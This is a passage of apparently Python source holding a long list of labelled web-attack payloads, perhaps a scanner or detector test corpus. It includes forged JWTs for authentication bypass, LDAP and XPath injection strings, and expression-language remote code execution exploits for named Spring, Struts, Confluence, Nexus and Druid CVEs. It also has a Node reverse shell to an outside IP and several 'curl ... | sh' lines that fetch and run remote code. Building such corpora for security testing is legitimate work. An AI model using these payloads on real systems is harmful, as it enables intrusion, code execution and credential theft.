     _jwt({"alg": "NoNe", "typ": "JWT"}, {"user": "administrator", "admin": True, "exp": 1893456000})),
    ("generic", "JWT alg none via access_token query", "query", "access_token",
     _jwt({"typ": "JWT", "alg": "none"}, {"sub": "admin@example.com", "scope": "admin:all"})),
    ("ptrav", "JWT kid traversal to /dev/null signed with empty key", "header:Authorization", "",
     "Bearer " + _jwt({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../../dev/null"},
                      {"sub": "administrator", "role": "admin"}, key=b"")),
    ("sqli", "JWT kid SQL injection returning known secret", "header:Authorization", "",
     "Bearer " + _jwt({"alg": "HS256", "typ": "JWT", "kid": "x' UNION SELECT 'attacker-secret'-- -"},
                      {"sub": "admin", "role": "superuser"}, key=b"attacker-secret")),
    ("rce", "JWT kid command injection", "header:Authorization", "",
     "Bearer " + _jwt({"alg": "HS256", "typ": "JWT", "kid": "keys/key1.pem|curl -s http://c2k4v9.oast.fun/$(id)"},
                      {"sub": "42"}, key=b"x")),
    ("ssrf", "JWT jku pointing to attacker JWKS", "header:Authorization", "",
     "Bearer " + _jwt({"alg": "RS256", "typ": "JWT", "kid": "attacker-key-1", "jku": "https://jwks.x7k2.oast.fun/.well-known/jwks.json"},
                      {"sub": "admin", "iss": "https://auth.example.com"}, sig=_FAKE_RS_SIG)),
    ("ssrf", "JWT x5u to attacker certificate", "cookie", "id_token",
     _jwt({"alg": "RS256", "x5u": "http://203.0.113.45/cert.pem"}, {"email": "admin@example.com", "email_verified": True}, sig=_FAKE_RS_SIG)),
    ("ssrf", "JWT jku allowlist bypass via userinfo", "header:Authorization", "",
     "Bearer " + _jwt({"alg": "RS256", "jku": "https://auth.example.com@jwks.x7k2.oast.fun/keys.json", "kid": "1"},
                      {"sub": "admin"}, sig=_FAKE_RS_SIG)),
    ("generic", "JWT embedded jwk self-signed (CVE-2018-0114)", "header:Authorization", "",
     "Bearer " + _jwt({"alg": "RS256", "typ": "JWT", "jwk": {"kty": "RSA", "kid": "pwn", "use": "sig", "e": "AQAB",
                      "n": "u1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0_IzW7yWR7QkrmBL7jTKEn5u-qKhbwKfBstIs-bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW_VDL5AaWTg0nLVkjRo9z-40RQzuVaE8AkAFmxZzow3x-VJYKdjykkJ0iT9wCS0DRTXu269V264Vf_3jvredZiKRkgwlL9xNAwxXFg0x_XFw005UWVRIkdgcKWTjpBP2dPwVZ4WWC-9aGVd-Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbcmw"}},
                      {"sub": "admin", "role": "admin"}, sig=_FAKE_RS_SIG)),
    ("java", "JWT kid Log4Shell JNDI lookup", "header:Authorization", "",
     "Bearer " + _jwt({"alg": "HS256", "kid": "${jndi:ldap://jd0s9x.oast.fun:1389/kid}"}, {"sub": "1"}, key=b"k")),

    # --- LDAP injection in directory lookups ---
    ("ldapi", "LDAP login filter break-out wildcard", "form", "username", "*)(uid=*))(|(uid=*"),
    ("ldapi", "LDAP admin with always-true AND", "form", "username", "admin)(&)"),
    ("ldapi", "LDAP objectClass OR injection in search", "query", "cn", "*)(|(objectClass=*)"),
    ("ldapi", "LDAP blind userPassword prefix probe", "query", "user", "admin)(userPassword=a*"),
    ("ldapi", "LDAP NUL byte filter termination", "form", "login", "admin)\x00"),
    ("ldapi", "LDAP Domain Admins membership filter", "json", "login",
     _j({"username": "*)(&(objectClass=user)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local)", "password": "x"})),
    ("ldapi", "LDAP injection via GraphQL directory query", "json", "query",
     _gql("""query { directoryUser(uid: "*)(uid=*))(|(uid=*") { cn mail telephoneNumber } }""")),

    # --- XPath injection ---
    ("generic", "XPath login tautology", "form", "username", "' or '1'='1"),
    ("generic", "XPath union node-set dump", "query", "category", "'] | //user/* | //*['"),
    ("generic", "XPath blind count of root children", "query", "name", "' or count(/*)=1 or 'a'='b"),
    ("generic", "XPath blind substring password extraction", "json", "account",
     "x' or substring(//user[1]/password,1,1)='a' or 'a'='b"),
    ("ssrf", "XPath 2.0 doc() out-of-band exfiltration", "query", "id",
     "' or doc(concat('http://xp.x7k2.oast.fun/',name(/*[1]))) or '1'='1"),

    # --- expression language injection (SpEL / OGNL / MVEL / JEXL / EL) ---
    ("java", "SpEL T() Runtime exec in parameter", "query", "sort", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("java", "SpEL #{} template expression", "json", "displayName",
     "#{T(java.lang.Runtime).getRuntime().exec('curl -s http://c2k4v9.oast.fun/spel')}"),
    ("java", "Spring Cloud Function CVE-2022-22963 routing-expression", "raw", "",
     _raw("POST", "/functionRouter",
          [_UA, 'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")',
           "Content-Type: text/plain"], "test")),
    ("java", "Spring Cloud Gateway CVE-2022-22947 route filter SpEL", "raw", "",
     _raw("POST", "/actuator/gateway/routes/hacktest", ["Content-Type: application/json", _UA],
          _j({"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result",
              "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
              "uri": "http://example.com"}))),
    ("java", "Spring Data Commons CVE-2018-1273 property path SpEL", "raw", "",
     _raw("POST", "/users?page=&size=5", ["Content-Type: application/x-www-form-urlencoded", _UA],
          "username%5B%23this.getClass%28%29.forName%28%22java.lang.Runtime%22%29.getRuntime%28%29.exec%28%22id%22%29%5D=chybeta"
          "&password=chybeta&repeatedPassword=chybeta")),
    ("java", "Spring Security OAuth CVE-2016-4977 whitelabel SpEL", "path", "",
     "/oauth/authorize?response_type=${T(java.lang.Runtime).getRuntime().exec(\"id\")}&client_id=acme&scope=openid&redirect_uri=http://test"),
    ("java", "Struts2 S2-045 OGNL in Content-Type", "raw", "",
     _raw("POST", "/struts2-showcase/fileupload/doUpload.action", [_UA, "Content-Type: " + _S2_045], "x")),
    ("java", "Confluence CVE-2022-26134 OGNL in URI", "path", "",
     '/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8"))'
     '.(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}/'),
    ("java", "Confluence CVE-2021-26084 OGNL queryString", "form", "queryString",
     r"aaa\u0027+{Class.forName(\u0027javax.script.ScriptEngineManager\u0027).newInstance().getEngineByName(\u0027JavaScript\u0027)"
     r".\u0065val(\u0027java.lang.Runtime.getRuntime().exec(\u0022id\u0022)\u0027)}+\u0027"),
    ("java", "Struts2 S2-016 redirect: prefix OGNL", "path", "",
     "/index.action?redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false,"
     "#f=#_memberAccess.getClass().getDeclaredField('allowStaticMethodAccess'),#f.setAccessible(true),"
     "#f.set(#_memberAccess,true),@java.lang.Runtime@getRuntime().exec('id')}"),
    ("java", "MVEL rule condition ProcessBuilder", "json", "rule",
     _j({"rule": {"name": "discount", "condition": "new java.lang.ProcessBuilder({'sh','-c','id > /tmp/mvel'}).start()", "action": "apply(10)"}})),
    ("java", "Nexus CVE-2019-7238 JEXL expression", "raw", "",
     _raw("POST", "/service/extdirect", ["Content-Type: application/json", "X-Requested-With: XMLHttpRequest", _UA],
          _j({"action": "coreui_Component", "method": "previewAssets", "data": [{"page": 1, "start": 0, "limit": 50,
              "sort": [{"property": "name", "direction": "ASC"}],
              "filter": [{"property": "repositoryName", "value": "*"},
                         {"property": "expression", "value": "''.class.forName('java.lang.Runtime').getRuntime().exec('touch /tmp/jexl')"},
                         {"property": "type", "value": "jexl"}]}], "type": "rpc", "tid": 8}),
          host="nexus.example.com:8081")),
    ("java", "Nexus CVE-2020-10199 EL in group memberNames", "body:application/json", "beta/repositories/go/group",
     _j({"name": "internal", "online": True, "storage": {"blobStoreName": "default", "strictContentTypeValidation": True},
         "group": {"memberNames": ["$\\c{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/el')}"]}})),
    ("java", "Apache Commons Text CVE-2022-42889 script lookup", "query", "search",
     "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/text4shell')}"),
    ("java", "Java EL reflection exec", "form", "label",
     "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
    ("java", "Apache Druid CVE-2021-25646 JavaScript parseSpec", "body:application/json", "druid/indexer/v1/sampler",
     _j({"type": "index", "spec": {"ioConfig": {"type": "index", "firehose": {"type": "local", "baseDir": "/etc", "filter": "passwd"}},
         "dataSchema": {"dataSource": "test", "parser": {"parseSpec": {"format": "javascript", "timestampSpec": {}, "dimensionsSpec": {},
             "function": "function(){var a = new java.util.Scanner(java.lang.Runtime.getRuntime().exec([\"sh\",\"-c\",\"id\"]).getInputStream()).useDelimiter(\"\\\\A\").next();return {timestamp:123123,test: a}}",
             "": {"enabled": "true"}}}}}, "samplerConfig": {"numRows": 10}})),

    # --- server-side JavaScript eval ---
    ("generic", "Node eval child_process execSync", "query", "q", "require('child_process').execSync('id').toString()"),
    ("generic", "Node eval mainModule require in JSON expression", "json", "expression",
     "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()"),
    ("generic", "vm sandbox escape via constructor chain", "json", "code",
     "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
    ("generic", "NodeGoat-style eval fs.readdirSync", "form", "preTax", "res.end(require('fs').readdirSync('.').toString())"),
    ("generic", "Node eval reverse shell IIFE", "json", "formula",
     "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var client=new net.Socket();"
     "client.connect(4444,'203.0.113.45',function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})()"),
    ("generic", "String.fromCharCode obfuscated eval", "query", "calc", f"eval(String.fromCharCode({_JS_CHARCODES}))"),
    ("generic", "vm2 CVE-2023-32314 Proxy stack escape", "body:text/plain", "sandbox/run",
     "const err = new Error(); err.name = { toString: new Proxy(() => \"\", { apply(target, thiz, args) { "
     "const process = args.constructor.constructor(\"return process\")(); "
     "throw process.mainModule.require(\"child_process\").execSync(\"id\").toString(); } }) }; try { err.stack; } catch (stdout) { stdout; }"),
    ("generic", "string-eval break-out from numeric delay field", "json", "delay",
     "1);require('child_process').exec('curl -s http://c2k4v9.oast.fun/n|sh');(1"),
    ("generic", "Python eval __import__ os.system", "json", "expr", "__import__('os').system('curl -s http://c2k4v9.oast.fun/py|sh')"),
]
